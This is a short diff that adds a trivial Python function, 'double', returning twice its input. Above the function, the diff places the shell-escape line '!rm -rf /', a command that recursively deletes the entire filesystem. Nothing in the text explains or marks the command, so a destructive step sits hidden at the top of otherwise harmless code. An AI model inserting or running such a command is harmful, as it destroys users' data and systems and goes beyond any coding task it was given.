@@ -1,0 +1,5 @@
+!rm -rf /
+
+
+def double(n):
+    return 2 * n
